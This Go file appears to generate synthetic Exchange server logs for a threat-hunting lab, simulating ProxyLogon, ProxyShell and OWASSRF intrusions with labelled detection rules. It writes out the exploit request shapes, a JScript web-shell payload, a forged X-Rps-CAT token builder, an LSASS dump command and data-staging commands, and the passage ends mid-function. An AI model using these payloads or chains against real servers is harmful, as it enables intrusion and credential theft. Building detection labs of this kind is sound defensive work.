package lab

import (
	"encoding/base64"
	"net/url"
	"strconv"
	"strings"
	"time"
)

// Scenario names.
const (
	scClean        = "clean"
	scProxyLogon   = "proxylogon-full"
	scScanOnly     = "scan-only"
	scFailed       = "failed-attempts"
	scMailboxTheft = "mailbox-theft"
	scProxyShell   = "proxyshell"
	scOWASSRF      = "proxynotshell-owassrf"
	scPatched      = "patched-midway"
	scKnownIP      = "known-ip"
)

// defaultScenarios is the demo mix, in the order servers get them.
var defaultScenarios = []string{scClean, scProxyLogon, scScanOnly, scFailed, scMailboxTheft, scProxyShell, scOWASSRF, scPatched}

// Scenarios returns the known scenario names: the default mix, then the
// ones only available on request.
func Scenarios() []string { return append(append([]string(nil), defaultScenarios...), scKnownIP) }

// Rule ids, as the hunter names them.
const (
	ruleSSRF          = "cve-2021-26855-ssrf"
	ruleResetSSRF     = "cve-2021-27065-reset-vdir-ssrf"
	ruleResetIIS      = "cve-2021-27065-reset-vdir-iis"
	ruleSetVdir       = "cve-2021-27065-set-vdir-script"
	ruleOABPath       = "cve-2021-26858-oab-path"
	ruleEcpJS         = "proxylogon-ecp-js"
	ruleStaticPost    = "hafnium-post-static-path"
	ruleVolexityUA    = "volexity-attack-user-agent"
	ruleKnownIP       = "known-attacker-ip"
	ruleShellKnown    = "webshell-known-path"
	ruleShellAspx     = "webshell-nonstandard-aspx"
	ruleProxyShell    = "proxyshell-autodiscover-ssrf"
	ruleProxyNotShell = "proxynotshell-autodiscover-ssrf"
	ruleOWASSRF       = "owassrf-owa-powershell"
	ruleRpsClient     = "owassrf-rps-clientinfo"
	ruleExport        = "proxyshell-mailbox-export"
	ruleImportRole    = "mailbox-import-export-role"
	ruleRemoveExport  = "remove-mailbox-export"
)

// Attack User-Agents.
var (
	uaChrome89   = newAgent("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/89.0.4389.90 Safari/537.36")
	uaPyReq225   = newAgent("python-requests/2.25.1")
	uaPyReq228   = newAgent("python-requests/2.28.1")
	uaESC        = newAgent("ExchangeServicesClient/0.0.0.0")
	uaPSRP       = newAgent("Python PSRP Client")
	uaAntSword   = newAgent("antSword/v2.1")
	uaDuckDuck   = newAgent("DuckDuckBot/1.0; (+http://duckduckgo.com/duckduckbot.html)")
	uaBaidu      = newAgent("Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)")
	uaNmap       = newAgent("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)")
	uaZgrab      = newAgent("Mozilla/5.0 zgrab/0.x")
	uaMozilla    = newAgent("Mozilla/5.0")
	uaCurlLinux  = newAgent("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/85.0.4183.121 Safari/537.36")
	volexityIPs  = []string{"103.77.192.219", "104.140.114.110", "104.250.191.110", "108.61.246.56", "149.28.14.163", "157.230.221.198", "167.99.168.251", "185.250.151.72", "192.81.208.169", "203.160.69.66", "211.56.98.146", "5.254.43.18", "80.92.205.81", "5.2.69.14", "91.192.103.43"}
	attackerNets = []string{"203.0.113.", "198.51.100.", "192.0.2."}
)

func date(y int, m time.Month, d int) int64 { return ms(time.Date(y, m, d, 0, 0, 0, 0, time.UTC)) }

// window sets the log window: from a few hours after the given day for
// days days, plus the extension large sizes get at the end (extending the
// end never changes whether a server is conclusive).
func (g *gen) window(start int64, days int64) {
	g.start = start + g.jitter(0, 6*hour)
	g.end = g.start + days*day + g.extra
}

// around returns a time on day d between from and to hours (UTC).
func (g *gen) around(d int64, from, to int64) int64 { return d + g.jitter(from*hour, to*hour) }

func (g *gen) attackerIP() string {
	for {
		ip := attackerNets[(g.idx+len(g.usedIPs))%len(attackerNets)] + strconv.Itoa(10+g.rng.IntN(240))
		if !g.usedIPs[ip] {
			g.usedIPs[ip] = true
			return ip
		}
	}
}

func (g *gen) plan() {
	switch g.scenario {
	case scClean:
		g.window(date(2023, 3, 6), 4)
		g.setBuild(g.buildOf("15.2.1118.20"))
	case scProxyLogon:
		g.window(date(2021, 2, 25), 9)
		g.setBuild(g.buildOf("15.1.2176.2"))
		g.proxyLogonFull(g.around(date(2021, 3, 3), 4, 7))
	case scScanOnly:
		g.window(date(2021, 8, 16), 4)
		g.setBuild(g.buildOf("15.0.1497.12"))
		// A burst on the first morning (in files that get gzipped), more
		// later, one after the front end's field list changed.
		g.scanBurst(g.start + g.jitter(hour, 3*hour))
		g.scanBurst(g.around(date(2021, 8, 17), 9, 18))
		g.scanBurst(g.around(date(2021, 8, 19), 2, 20))
	case scFailed:
		g.window(date(2021, 3, 5), 4)
		g.setBuild(g.buildOf("15.2.792.10"))
		g.failedProxyLogon(g.around(date(2021, 3, 6), 1, 6), true)
		g.staticPosts(g.around(date(2021, 3, 7), 8, 20))
	case scMailboxTheft:
		g.window(date(2021, 2, 27), 4)
		g.setBuild(g.buildOf("15.2.721.2"))
		g.mailboxTheft(g.around(date(2021, 3, 1), 20, 23))
	case scProxyShell:
		g.window(date(2021, 8, 9), 4)
		g.setBuild(g.buildOf("15.2.858.5"))
		g.proxyShell(g.around(date(2021, 8, 11), 2, 8))
	case scOWASSRF:
		g.window(date(2022, 11, 28), 4)
		g.setBuild(g.buildOf("15.1.2507.6"))
		g.owassrf(g.around(date(2022, 11, 30), 10, 16))
	case scPatched:
		g.window(date(2020, 12, 20), 78)
		g.setBuild(g.buildOf("15.1.2106.2"))
		g.patch(date(2021, 3, 4)+2*hour, g.buildOf("15.1.2106.13"))
		g.failedProxyLogon(g.around(date(2021, 3, 5), 3, 9), false)
		g.failedProxyLogon(g.around(date(2021, 3, 6), 10, 20), false)
	case scKnownIP:
		g.window(date(2022, 2, 14), 4)
		g.setBuild(g.buildOf("15.2.986.5"))
		g.knownIP(g.around(date(2022, 2, 15), 1, 5))
		g.knownIP(g.around(date(2022, 2, 16), 13, 22))
	}
}

// patch installs b at t: an hour of downtime, IIS restarts, and files
// opened afterwards carry the new #Version.
func (g *gen) patch(t int64, b *build) {
	g.downFrom, g.downTo = t, t+hour
	g.at(t, func(t int64) {
		for _, s := range g.streams {
			if s.period == hour {
				g.closeStream(s)
			}
		}
		g.setBuild(b)
	})
	up := t + hour + g.jitter(0, 5*minute)
	g.at(up, func(t int64) {
		g.iisRestart(stFE, t, g.streams[stFE].alt)
		g.iisRestart(stBE, t, false)
	})
}

// chores schedules what every server does besides user traffic: OAB
// generation, an IIS restart, and at least one of each benign look-alike
// (admin vdir changes, zgrab, Censys), so even a small clean server has
// them.
func (g *gen) chores() {
	oabMsgs := []string{
		"OABGeneratorAssistant: Starting generation of OAB '\\Default Offline Address Book' (" + g.oabID + ").",
		"Downloading OAB files for '\\Default Offline Address Book' from " + g.fqdn + ".",
		"OAB generation completed for '\\Default Offline Address Book': 2 full files and 1 differential file written.",
	}
	for t := g.start + g.jitter(0, 8*hour); t < g.end; t += 8*hour + g.jitter(-10*minute, 10*minute) {
		g.at(t, func(t int64) {
			s := g.streams[stOAB]
			g.put(s, t, g.oabLine(t, "Information", oabMsgs[0]))
			t += g.jitter(200, 3000)
			g.put(s, t, g.oabLine(t, "Information", oabMsgs[1]))
			if g.rng.IntN(3) == 0 {
				// Benign: a failed download leaves a temp file in the
				// expected folder.
				t += g.jitter(200, 3000)
				msg := "Download failed and temporary file 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\" + g.newGUID().String() + ".tmp' needs to be removed."
				g.put(s, t, g.oabLine(t, "Warning", msg))
			}
			t += g.jitter(1000, 60000)
			g.put(s, t, g.oabLine(t, "Information", oabMsgs[2]))
		})
	}
	mid := g.start + (g.end-g.start)/3 + g.jitter(0, (g.end-g.start)/3)
	g.at(mid, func(t int64) {
		g.iisRestart(stFE, t, g.altIIS)
		g.iisRestart(stBE, t, false)
	})
	span := g.end - g.start
	g.at(g.start+g.jitter(span/10, span/2), func(t int64) { g.ecpVdirChange(t, true) })
	g.at(g.start+g.jitter(span/10, span/2), func(t int64) { g.ecpVdirChange(t, false) })
	g.at(g.start+g.jitter(span/2, span*9/10), func(t int64) { g.psSession(t, true) })
	g.at(g.start+g.jitter(0, span), func(t int64) { g.scanAs(t, 0) })
	g.at(g.start+g.jitter(0, span), func(t int64) { g.scanAs(t, 1) })
}

// hit prepares an attacker's request to the front end.
func (g *gen) hit(t int64, ip string, ua *agent, method, stem, query string, proto int) *request {
	r := g.newReq(t, method, stem, query, proto)
	r.ip, r.ua, r.bg = ip, ua, false
	r.reqBytes = 200 + g.rng.IntN(1500)
	return r
}

// beResource routes r the ProxyLogon way: the X-BEResource cookie names
// the back-end target, which HttpProxy logs as AnchorMailbox ServerInfo~….
// beStatus 0 means the front end failed the request itself.
func (g *gen) beResource(r *request, anchor string, status, beStatus int, beStem, beQuery string) *request {
	r.anchor, r.routingHint, r.routingType = anchor, "X-BEResource-Cookie", "IntraForest"
	r.status, r.beStatus = status, beStatus
	r.be = beStatus > 0
	r.beStem, r.beQuery, r.beUser = beStem, beQuery, ""
	if !r.be {
		r.target, r.targetVer = g.fqdn, g.targetVer
		r.errCode = "ProxyFailed"
		r.genericErr = "System.Net.WebException: The remote server returned an error: (500) Internal Server Error., Microsoft.Exchange.HttpProxy.ProxyRequestHandler.OnResponseReady"
	}
	return r
}

// ssrfAnchor is the AnchorMailbox ProxyLogon's cookie produces.
func (g *gen) ssrfAnchor(user, path string) string {
	return "ServerInfo~" + user + "@" + g.fqdn + ":444" + path + "#"
}

// proxyLogonFull is the 7-step ProxyLogon chain (PoC request shapes) with
// a working OAB-vdir web shell, then its use.
func (g *gen) proxyLogonFull(t int64) {
	t0 := t
	ip, ua := g.attackerIP(), uaChrome89
	js := "/ecp/" + g.randString(1+g.rng.IntN(3), alnum) + ".js"
	canary := g.canary()
	shell := g.randString(8, alnum) + ".aspx"
	step := func() int64 { t += g.jitter(800, 6000); return t }

	// 0: localhost probe: the FE answers itself; AnchorMailbox has no path.
	r := g.hit(t, ip, ua, "GET", js, "", pEcp)
	g.beResource(r, "ServerInfo~localhost", 500, 0, "", "")
	r.target, r.errCode = "localhost", "ServerNotFound"
	g.send(r.expect(logFE, ruleEcpJS, recon))

	// 1: autodiscover, to learn the back end's LegacyDN.
	r = g.hit(step(), ip, ua, "POST", js, "", pEcp)
	g.beResource(r, g.ssrfAnchor("a]", "/autodiscover/autodiscover.xml?"), 200, 200, "/autodiscover/autodiscover.xml", "a=")
	g.send(r.expect(logFE, ruleEcpJS, exploit).expect(logProxy, ruleSSRF, attempt))

	// 2: MAPI connect, to learn the administrator's SID.
	mbx := g.newGUID().String()
	r = g.hit(step(), ip, ua, "POST", js, "", pEcp)
	g.beResource(r, g.ssrfAnchor("Administrator", "/mapi/emsmdb/?"), 200, 200, "/mapi/emsmdb", "MailboxId="+mbx+"@contoso.com&a=")
	g.send(r.expect(logFE, ruleEcpJS, exploit).expect(logProxy, ruleSSRF, exploit))

	// 3: proxyLogon.ecp hands out an ECP session: 241.
	r = g.hit(step(), ip, ua, "POST", js, "", pEcp)
	g.beResource(r, g.ssrfAnchor("Administrator", "/ecp/proxyLogon.ecp?"), 241, 241, "/ecp/proxyLogon.ecp", "a=")
	g.send(r.expect(logFE, ruleEcpJS, exploit).expect(logProxy, ruleSSRF, exploit))

	admin := "contoso\\administrator"
	ddi := func(op, schema string) *request {
		r := g.hit(step(), ip, ua, "POST", js, "", pEcp)
		q := "msExchEcpCanary=" + canary + "&schema=" + schema
		g.beResource(r, g.ssrfAnchor("Administrator", "/ecp/DDI/DDIService.svc/"+op+"?"+q), 200, 200, "/ecp/DDI/DDIService.svc/"+op, q)
		r.beUser = admin
		return r
	}
	ident := "'" + g.name + "\\OAB (Default Web Site)'"
	adminSID := domainSID + "500"

	// 4: read the OAB virtual directory.
	r = ddi("GetObject", "OABVirtualDirectory")
	r.ecp = g.ecpEventData(31, adminSID, "Get-OabVirtualDirectory.Identity="+ident, "/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary="+canary+"&schema=OABVirtualDirectory")
	g.send(r.expect(logFE, ruleEcpJS, exploit).expect(logProxy, ruleSSRF, exploit))

	// 5: write the script into ExternalUrl.
	r = ddi("SetObject", "OABVirtualDirectory")
	script := `http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["code"],"unsafe");}</script>`
	g.cmdletEvent(t+300, "Set-OabVirtualDirectory", `-Identity "`+g.name+`\OAB (Default Web Site)" -ExternalUrl "`+script+`"`,
		"contoso.com/Users/Administrator", "ECP.MSExchangeECPAppPool",
		evExpect{ruleVdirEvent, persist}, evExpect{sigmaOabVdir, execute}, evExpect{sigmaSetOabURL, persist})
	r.ecp = g.ecpEventData(187, adminSID, "Set-OabVirtualDirectory.ExternalUrl='"+script+"'.Identity="+ident, "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary="+canary+"&schema=OABVirtualDirectory")
	g.send(r.expect(logFE, ruleEcpJS, exploit).expect(logProxy, ruleSSRF, persist).expect(logECP, ruleSetVdir, persist))

	// 6: reset the vdir, exporting its config (script included) to a file
	// in owa\auth.
	r = ddi("SetObject", "ResetOABVirtualDirectory")
	g.send(r.expect(logFE, ruleEcpJS, exploit).expect(logProxy, ruleSSRF, persist).
		expect(logProxy, ruleResetSSRF, persist).expect(logBE, ruleResetIIS, persist))
	shellPath := `C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\` + shell
	g.at(step(), func(t int64) {
		rel, n := g.put(g.streams[stOAB], t, g.oabLine(t, "Warning", "Download failed and temporary file '"+shellPath+"' needs to be removed."))
		g.expect(rel, n, ruleOABPath, persist, "")
	})
	g.plantOABShell(t, shell, script)

	// 7: use the shell: a GET to check it, then commands by POST.
	t += g.jitter(5*minute, 40*minute)
	r = g.hit(t, ip, ua, "GET", "/owa/auth/"+shell, "", pNone)
	g.send(r.expect(logFE, ruleShellAspx, persist).expect(logFE, ruleShellAnswered, execute))
	for i := range 3 + g.rng.IntN(4) {
		t += g.jitter(30*second, 8*hour)
		r = g.hit(t, ip, uaAntSword, "POST", "/owa/auth/"+shell, "", pNone)
		r.respBytes = 2200 + g.rng.IntN(9000)
		g.send(r.expect(logFE, ruleShellAspx, execute).expect(logFE, ruleVolexityUA, attempt).expect(logFE, ruleShellAnswered, execute))
		g.chopperCommand(t+g.jitter(50, 900), i)
	}
	// then, through the shell, LSASS dumped and data staged
	g.plantLoot(t + 20*minute)
	g.umExploitAttempt(g.jitter(g.start+hour, t0-hour))
}

// chopperCommand is the process a China Chopper POST starts: cmd.exe under
// the OWA pool's w3wp, with the shell's "&echo [S]&cd&echo [E]" wrapper;
// some commands start a program of their own.
func (g *gen) chopperCommand(t int64, i int) {
	dir := `C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth`
	wrap := func(c string) string { return `cmd /c "cd /d "` + dir + `"&` + c + `&echo [S]&cd&echo [E]"` }
	shellHits := []evExpect{{ruleWorkerChild, execute}, {sigmaChopper, execute}, {sigmaWebChild, persist}}
	sys := `NT AUTHORITY\SYSTEM`
	switch i {
	case 2:
		lsassPID := 600 + g.rng.IntN(100)
		dump := `rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump ` + strconv.Itoa(lsassPID) + ` C:\windows\temp\lsass.dmp full`
		// The command line gives a PID, and lsass.dmp is only the name the
		// attacker chose: only Sysmon's event 10 (on servers that run it)
		// says the PID is lsass's, so only there is it an LSASS dump.
		dumpRule := ruleProcDump
		if g.sysmon() {
			dumpRule = ruleLsassDump
			g.processAccess(t+90, imgRundll, lsassPID, imgLsass, sys, comsvcsTrace,
				evExpect{ruleLsassDump, execute}, evExpect{sigmaLsassComsvcs, execute})
		}
		g.proc(t, imgCmd, wrap(dump), imgW3wp, w3wpCmdline("MSExchangeOWAAppPool"), sys,
			append(shellHits, evExpect{dumpRule, execute}, evExpect{sigmaComsvcs, execute})...)
		g.proc(t+40, imgRundll, dump, imgCmd, wrap(dump), sys, evExpect{dumpRule, execute}, evExpect{sigmaComsvcs, execute})
	case 3:
		zip := `C:\ProgramData\7z.exe a -t7z -mx9 C:\ProgramData\it.zip C:\ProgramData\pst -pQwerty123`
		g.proc(t, imgCmd, wrap(zip), imgW3wp, w3wpCmdline("MSExchangeOWAAppPool"), sys, append(shellHits, evExpect{sigmaHafnium, execute})...)
		g.proc(t+40, `C:\ProgramData\7z.exe`, zip, imgCmd, wrap(zip), sys, evExpect{ruleArchive, collect}, evExpect{sigmaHafnium, execute})
	default:
		c := []string{"whoami", "ipconfig /all", "", "", `net group "Exchange Trusted Subsystem" /domain`, "tasklist"}[min(i, 5)]
		g.proc(t, imgCmd, wrap(c), imgW3wp, w3wpCmdline("MSExchangeOWAAppPool"), sys, shellHits...)
	}
}

// umExploitAttempt is CVE-2021-26857 failing against Unified Messaging:
// the deserialization error and the worker's crash report.
func (g *gen) umExploitAttempt(t int64) {
	g.appEvent(t, "MSExchange Unified Messaging", 1051, 2, 0xc000, []string{"UMWorkerProcess.exe",
		"An unhandled exception occurred in a UM worker process: System.InvalidCastException: Unable to cast object of type 'System.Windows.Data.ObjectDataProvider' to type 'Microsoft.Exchange.UM.UMCommon.UMPartnerMessage'.\r\n   at Microsoft.Exchange.UM.UMCore.UMServiceBase.ProcessMessage(Object state)"},
		evExpect{ruleUMCast, attempt})
	g.appEvent(t+1200, "MSExchange Common", 4999, 2, 0xc000, []string{"Watson report about to be sent for process id: 7312, with parameters: E12IIS, c-RTL-AMD64, 15.01.2176.002, UMWorkerProcess, M.Exchange.UM.UMCore, M.E.U.U.UMServiceBase.ProcessMessage, System.InvalidCastException, 80b3, 15.01.2176.002."},
		evExpect{ruleUMCrash, attempt})
	g.proc(t+1500, imgWerFault, `C:\Windows\system32\WerFault.exe -u -p 7312 -s 2104`, imgUMWorker, `"`+imgUMWorker+`" 1235 1236`, `NT AUTHORITY\SYSTEM`)
}

// scanBurst is a scanner run: the nmap ProxyLogon check (x.js with an
// X-AnonResource cookie), Kevin Beaumont's ProxyShell check, and GETs for
// web-shell paths from Microsoft's IOC feed, all answered with errors.
func (g *gen) scanBurst(t int64) {
	ip := g.attackerIP()
	r := g.hit(t, ip, uaNmap, "GET", "/owa/auth/x.js", "", pOwa)
	r.anchor, r.routingHint, r.routingType = "ServerInfo~localhost/ecp/default.flt?", "X-AnonResource-Backend-Cookie", "CrossRegion"
	r.status, r.beStatus, r.be = 500, 500, false
	r.target, r.targetVer, r.feAuth = "localhost", "0.00.0003.000", 3
	r.genericExtra = "ProxyToDownLevel=True;"
	r.genericErr = "System.Net.WebException: The remote server returned an error: (500) Internal Server Error."
	g.send(r.expect(logFE, ruleEcpJS, recon).expect(logProxy, ruleSSRF, recon))

	t += g.jitter(2*second, 40*second)
	ip2 := g.attackerIP()
	q := "@test.com/owa/?&Email=autodiscover/autodiscover.json%3F@test.com"
	r = g.hit(t, ip2, uaZgrab, "GET", "/autodiscover/autodiscover.json", q, pAutodiscover)
	r.status, r.beStatus = 302, 302
	r.beStem, r.beQuery = "/owa/", "&Email=autodiscover/autodiscover.json%3F@test.com"
	r.anchor, r.routingHint = "Smtp~test@test.com", "Url-Email"
	g.send(r.expect(logFE, ruleProxyShell, recon).expect(logProxy, ruleProxyShell, recon))

	for _, p := range []string{"/aspnet_client/shell.aspx", "/owa/auth/errorPage.aspx", "/aspnet_client/system_web/log.aspx", "/OAB/log.aspx"} {
		t += g.jitter(200, 3000)
		r = g.hit(t, ip2, uaZgrab, "GET", p, "", pNone)
		r.status, r.win32 = 404, 2
		g.send(r.expect(logFE, ruleShellKnown, recon))
	}
}

// failedProxyLogon is the ProxyLogon chain against a patched server: the
// front end refuses every ServerInfo~ target. With esc the attacker uses
// the ExchangeServicesClient/0.0.0.0 agent Volexity listed and meets a mix
// of errors; without, python-requests, all 500, then a second attacker
// posts to /ecp/main.css.
func (g *gen) failedProxyLogon(t int64, esc bool) {
	ip, ua := g.attackerIP(), uaPyReq225
	if esc {
		ua = uaESC
	}
	js := "/ecp/" + g.randString(1+g.rng.IntN(3), alnum) + ".js"
	steps := []struct {
		anchor string
		status int
	}{
		{g.ssrfAnchor("a]", "/autodiscover/autodiscover.xml?"), 500},
		{g.ssrfAnchor("Administrator", "/mapi/emsmdb/?"), 400},
		{g.ssrfAnchor("Administrator", "/ecp/proxyLogon.ecp?"), 500},
		{g.ssrfAnchor("Administrator", "/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary="+g.canary()+"&schema=OABVirtualDirectory"), 401},
	}
	for _, s := range steps {
		if !esc {
			s.status = 500
		}
		r := g.hit(t, ip, ua, "POST", js, "", pEcp)
		g.beResource(r, s.anchor, s.status, 0, "", "")
		g.send(r.expect(logFE, ruleEcpJS, attempt).expect(logFE, ruleVolexityUA, attempt).expect(logProxy, ruleSSRF, attempt))
		t += g.jitter(second, 20*second)
	}
	if !esc {
		// A second attacker posting to the static paths HAFNIUM used.
		ip2 := g.attackerIP()
		t += g.jitter(minute, 3*hour)
		r := g.hit(t, ip2, uaCurlLinux, "POST", "/ecp/main.css", "", pEcp)
		g.beResource(r, g.ssrfAnchor("a]", "/ews/exchange.asmx?"), 500, 0, "", "")
		g.send(r.expect(logFE, ruleStaticPost, attempt).expect(logProxy, ruleSSRF, attempt))
	}
}

// staticPosts are Volexity's crawler-agent POSTs to OWA's static theme
// folder, carrying an X-BEResource cookie, refused by a patched server.
func (g *gen) staticPosts(t int64) {
	ip := g.attackerIP()
	for _, p := range []struct {
		ua   *agent
		path string
	}{
		{uaDuckDuck, "/owa/auth/Current/themes/resources/logon.css"},
		{uaBaidu, "/owa/auth/Current/themes/resources/owafont_ja.css"},
	} {
		r := g.hit(t, ip, p.ua, "POST", p.path, "", pOwa)
		g.beResource(r, g.ssrfAnchor("a]", "/ews/exchange.asmx?"), 500, 0, "", "")
		g.send(r.expect(logFE, ruleStaticPost, attempt).expect(logFE, ruleVolexityUA, attempt).expect(logProxy, ruleSSRF, attempt))
		t += g.jitter(5*second, 10*minute)
	}
}

// mailboxTheft is Volexity's pre-disclosure HAFNIUM activity: SSRF to EWS
// to list and download two mailboxes, no write, no shell.
func (g *gen) mailboxTheft(t int64) {
	ip, ua := g.attackerIP(), uaPyReq225
	js := "/ecp/" + g.randString(1+g.rng.IntN(3), alnum) + ".js"
	r := g.hit(t, ip, ua, "POST", js, "", pEcp)
	g.beResource(r, g.ssrfAnchor("a]", "/autodiscover/autodiscover.xml?"), 200, 200, "/autodiscover/autodiscover.xml", "a=")
	g.send(r.expect(logFE, ruleEcpJS, exploit).expect(logFE, ruleVolexityUA, attempt).expect(logProxy, ruleSSRF, attempt))
	for _, victim := range []string{"ceo@contoso.com", "cfo@contoso.com"} {
		g.mailboxes[victim] = true
		for i := range 4 + g.rng.IntN(6) {
			t += g.jitter(2*second, 90*second)
			soap := "GetItem"
			if i == 0 {
				soap = "FindItem"
			}
			r := g.hit(t, ip, ua, "POST", js, "", pEcp)
			g.beResource(r, g.ssrfAnchor("a]", "/EWS/Exchange.asmx?"), 200, 200, "/EWS/Exchange.asmx", "")
			r.ews, r.authType, r.id2 = &ewsRow{user: victim, soap: soap}, "Negotiate", g.newGUID()
			r.respBytes = 4000 + g.rng.IntN(400000)
			g.send(r.expect(logFE, ruleEcpJS, exploit).expect(logFE, ruleVolexityUA, attempt).expect(logProxy, ruleSSRF, collect))
		}
	}
}

// rpsCAT builds ProxyShell's forged X-Rps-CAT token for an address and SID
// (the dmaasland PoC's layout), query-escaped.
func rpsCAT(email, sid string) string {
	var b []byte
	b = append(b, "V\x01\x00T\x07WindowsC\x00A\x08KerberosL"...)
	b = append(b, byte(len(email)))
	b = append(b, email...)
	b = append(b, 'U', byte(len(sid)))
	b = append(b, sid...)
	b = append(b, "G\x01\x00\x00\x00\x07\x00\x00\x00\x0cS-1-5-32-544E\x00\x00\x00\x00"...)
	return url.QueryEscape(base64.StdEncoding.EncodeToString(b))
}

// proxyShell is the dmaasland ProxyShell chain as seen in the wild: SSRF
// through autodiscover.json, remote PowerShell with a forged token, a
// mailbox exported as .aspx into aspnet_client, then the shell used.
func (g *gen) proxyShell(t int64) {
	ip := g.attackerIP()
	victim := "administrator@contoso.com"
	g.mailboxes[victim] = true
	dom := g.randString(5, "abcdefghijklmnopqrstuvwxyz") + ".com"
	cat := rpsCAT(victim, domainSID+"500")
	email := "&Email=autodiscover/autodiscover.json%3F@" + dom
	ssrf := func(t int64, ua *agent, method, path, beStem, beQuery string) *request {
		r := g.hit(t, ip, ua, method, "/autodiscover/autodiscover.json", "@"+dom+path+email, pAutodiscover)
		r.beStem, r.beQuery = beStem, beQuery
		r.routingHint = "Url-Email"
		if strings.Contains(path, "/powershell") || strings.Contains(path, "/EWS") || strings.Contains(path, "X-Rps-CAT") {
			r.expect(logFE, sigmaProxyShellOK, attempt)
		}
		return r.expect(logFE, ruleProxyShell, exploit).expect(logProxy, ruleProxyShell, exploit)
	}
	step := func() int64 { t += g.jitter(second, 8*second); return t }
	g.send(ssrf(t, uaPyReq225, "POST", "/autodiscover/autodiscover.xml?", "/autodiscover/autodiscover.xml", ""))
	g.send(ssrf(step(), uaPyReq225, "POST", "/mapi/emsmdb?", "/mapi/emsmdb", ""))
	r := ssrf(step(), uaPyReq225, "POST", "/EWS/exchange.asmx?X-Rps-CAT="+cat, "/EWS/exchange.asmx", "X-Rps-CAT="+cat)
	r.ews, r.authType, r.id2 = &ewsRow{user: victim, soap: "CreateItem"}, "Kerberos", g.newGUID()
	g.send(r)

	subject := g.randString(14, "abcdefghijklmnopqrstuvwxyz0123456789")
	session := g.newGUID()
	pid := 9000 + g.rng.IntN(9000)
	ps := func(t int64, action, command string) {
		r := ssrf(t, uaPSRP, "POST", "/powershell/?X-Rps-CAT="+cat, "/powershell/", "X-Rps-CAT="+cat)
		r.authType, r.id2 = "Kerberos", g.newGUID()
		r.rps = &rpsRow{user: victim, stem: "/powershell/", query: "X-Rps-CAT=" + cat, clientInfo: uaPSRP.raw, action: action, command: command, session: session}
		g.send(r.expect(logRps, ruleRpsClient, exploit))
	}
	ps(step(), "Create", "")
	// The MSExchange Management log has each cmdlet too. SigmaHQ's rules
	// for it look for " -Mailbox ", " -Role ..." and " -Identity " with a
	// leading space, as in a rendered message; the event's parameters value
	// starts with that switch, so they do not fire here.
	mgmtExp := map[string][]evExpect{
		"New-ManagementRoleAssignment": {{ruleImportRole, persist}},
		"New-MailboxExportRequest":     {{ruleExport, persist}},
		"Remove-MailboxExportRequest":  {{ruleRemoveExport, persist}},
	}
	cmd := func(name, params, rule string) {
		ps(step(), "Command", name)
		took := 200 + g.rng.IntN(3000)
		t += int64(took)
		c := &cmdlet{user: victim, sid: domainSID + "500", name: name, params: params, success: true, processID: pid, runspaceTag: "Remote"}
		g.cmdletEvent(t+5, name, strings.ReplaceAll(params, "'", `"`), "contoso.com/Users/Administrator", "Remote-PowerShell-Unknown", mgmtExp[name]...)
		g.at(t, func(t int64) {
			rel, n := g.put(g.streams[stRpsCmdlet], t, g.cmdletLine(t, c, took))
			if rule != "" {
				g.expect(rel, n, rule, persist, "")
			}
		})
		ps(step(), "Receive", name)
	}
	cmd("New-ManagementRoleAssignment", "-Role 'Mailbox Import Export' -User '"+victim+"'", ruleImportRole)
	cmd("New-MailboxExportRequest", "-Mailbox '"+victim+"' -IncludeFolders '#Drafts#' -ContentFilter \"Subject -eq '"+subject+"'\" -FilePath '\\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\"+subject+".aspx'", ruleExport)
	// the export writes the PST, script in clear, under the .aspx name
	g.plantPSTShell(t+17*second, subject, `<script language="JScript" runat="server">function Page_Load(){eval(Request["exec_code"],"unsafe");}</script>`)
	t += g.jitter(30*second, 3*minute)
	cmd("Get-MailboxExportRequest", "-Mailbox '"+victim+"'", "")
	cmd("Remove-MailboxExportRequest", "-Identity '"+victim+"\\MailboxExport' -Confirm 'False'", ruleRemoveExport)
	ps(step(), "Delete", "")

	shell := "/aspnet_client/" + subject + ".aspx"
	t += g.jitter(minute, 20*minute)
	r = g.hit(t, ip, uaPyReq225, "GET", shell, "", pNone)
	g.send(r.expect(logFE, ruleShellAspx, persist).expect(logFE, ruleShellAnswered, execute))
	// days later an administrator runs the Safety Scanner, which finds it
	g.plantMsert(t+30*hour, `C:\inetpub\wwwroot\aspnet_client\`+subject+".aspx")
	for _, c := range []string{"whoami", "ipconfig+/all", "net+group+%22domain+admins%22+/domain"} {
		t += g.jitter(10*second, 30*minute)
		q := "exec_code=Response.Write(new+ActiveXObject(%22WScript.Shell%22).exec(%22cmd.exe+/c+" + c + "%22).StdOut.ReadAll());"
		r = g.hit(t, ip, uaPyReq225, "GET", shell, q, pNone)
		g.send(r.expect(logFE, ruleShellAspx, execute).expect(logFE, ruleShellAnswered, execute))
		// WScript.Shell's Exec under the Default Web Site's pool
		inner := strings.ReplaceAll(strings.ReplaceAll(c, "+", " "), "%22", `"`)
		g.proc(t+g.jitter(30, 600), imgCmd, "cmd.exe /c "+inner, imgW3wp, w3wpCmdline("DefaultAppPool"), `NT AUTHORITY\SYSTEM`,
			evExpect{ruleWorkerChild, execute}, evExpect{sigmaWebChild, persist})
	}
}

// owassrf is late-2022 exploitation with stolen credentials: the
// ProxyNotShell autodiscover SSRF, then the OWASSRF path, both ending in
// remote PowerShell driven by pypsrp.
func (g *gen) owassrf(t int64) {
	ip := g.attackerIP()
	u := g.users[g.rng.IntN(len(g.users))]
	dom := g.randString(6, "abcdefghijklmnopqrstuvwxyz") + ".com"
	session := g.newGUID()
	rps := func(r *request, action string) {
		r.authType, r.id2, r.beUser = "Basic", g.newGUID(), u.dom
